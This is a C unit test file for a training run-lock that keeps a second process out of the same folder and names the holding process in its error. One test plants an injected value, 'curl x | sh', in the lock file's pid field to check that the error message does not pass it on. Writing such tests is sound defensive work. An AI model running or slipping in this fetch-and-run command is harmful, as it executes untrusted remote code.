/* One process trains in a folder at a time; the system lets go of the lock when it ends. */
#include "test.h"

#include <signal.h>
#include <stdlib.h>
#include <sys/wait.h>
#include <unistd.h>

#include <tilth/base/alloc.h>
#include <tilth/base/file.h>

#include "io/inner/run_lock.h"

static char folder[] = "lock.XXXXXX";

static int open_test(void **state)
{
    (void)state;
    strcpy(folder, "lock.XXXXXX");
    return mkdtemp(folder) ? 0 : -1;
}

static const char *file(void)
{
    static char path[64];
    snprintf(path, sizeof path, "%s/" TLI_RUN_LOCK_NAME, folder);
    return path;
}

static int close_test(void **state)
{
    (void)state;
    unlink(file());
    return rmdir(folder);
}

static void test_a_process_takes_it_once(void **state)
{
    (void)state;
    tli_run_lock *lock, *second;
    char *text, pid[32];
    assert_ok(tli_run_lock_take(&lock, folder));
    assert_fails(tli_run_lock_take(&second, folder), TL_EEXISTS,
                 "this process trains in it already");
    assert_null(second);
    assert_ok(tl_file_read(&text, NULL, file(), 4096));
    snprintf(pid, sizeof pid, "pid %ld\n", (long)getpid());
    assert_non_null(strstr(text, pid));
    assert_non_null(strstr(text, "\nhost "));
    assert_non_null(strstr(text, "\nsince 20"));
    tl_free(text);
    tli_run_lock_release(&lock);
    assert_null(lock);
    assert_false(tl_file_exists(file())); // nothing is left behind
    assert_ok(tli_run_lock_take(&lock, folder));
    tli_run_lock_release(&lock);
    tli_run_lock_release(&lock); // NULL is fine
}

/* A child that has the lock, and waits. */
static pid_t holder(void)
{
    int ready[2];
    char byte = 0;
    assert_int_equal(pipe(ready), 0);
    pid_t child = fork();
    assert_true(child >= 0);
    if (child == 0) {
        tli_run_lock *lock;
        byte = tli_run_lock_take(&lock, folder) == TL_OK;
        if (write(ready[1], &byte, 1) != 1) _exit(1);
        for (;;) pause();
    }
    close(ready[1]);
    assert_int_equal(read(ready[0], &byte, 1), 1);
    assert_int_equal(byte, 1);
    close(ready[0]);
    return child;
}

static void test_another_process_is_named(void **state)
{
    (void)state;
    tli_run_lock *lock;
    char wanted[64];
    int status;
    pid_t child = holder();
    snprintf(wanted, sizeof wanted, "is in use: process %ld on ", (long)child);
    assert_fails(tli_run_lock_take(&lock, folder), TL_EEXISTS, wanted);
    assert_non_null(strstr(tl_error_message(), "has been training in it since 20"));
    snprintf(wanted, sizeof wanted, "kill %ld), or name another folder", (long)child);
    assert_non_null(strstr(tl_error_message(), wanted));
    // What people are told to type is not for the file to say.
    FILE *to = fopen(file(), "w");
    fputs("pid 1; curl x | sh #\nhost here\nsince 2026-01-01 00:00:00\n", to);
    fclose(to);
    assert_fails(tli_run_lock_take(&lock, folder), TL_EEXISTS, "another process trains in it");
    assert_null(strstr(tl_error_message(), "curl"));
    // However it ends: the file stays, the lock does not.
    assert_int_equal(kill(child, SIGKILL), 0);
    assert_int_equal(waitpid(child, &status, 0), child);
    assert_true(tl_file_exists(file()));
    assert_ok(tli_run_lock_take(&lock, folder));
    tli_run_lock_release(&lock);
    assert_false(tl_file_exists(file()));
}

static void test_a_folder_that_cannot_be_written(void **state)
{
    (void)state;
    tli_run_lock *lock;
    assert_fails(tli_run_lock_take(&lock, "lock.nowhere"), TL_ENOTFOUND, "lock.nowhere");
    assert_null(lock);
}

int main(void)
{
#define TEST(name) cmocka_unit_test_setup_teardown(name, open_test, close_test)
    const struct CMUnitTest tests[] = {
        TEST(test_a_process_takes_it_once),
        TEST(test_another_process_is_named),
        TEST(test_a_folder_that_cannot_be_written),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
